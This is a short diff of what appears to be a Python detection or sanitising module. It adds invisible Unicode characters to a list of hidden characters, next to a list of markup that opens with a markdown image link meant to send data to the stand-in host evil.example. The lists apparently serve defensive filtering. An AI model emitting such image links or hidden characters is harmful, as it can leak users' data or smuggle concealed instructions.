@@ -28,6 +28,7 @@ SEQUENCES: Final = (
 UNSEEN: Final = (
     *"\u061c\u200b\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u2060\ufeff\xad",
     *"\u034f\u180e\u3164\uffa0\u115f\u2800\ufe0f\u200c\u200d\u2028\u2029\x85\xa0\U000e0041",
+    *"\U000e0101\ufe01\u180b\u17b4",
 )
 MARKUP: Final = (
     "![](http://evil.example/?data)",
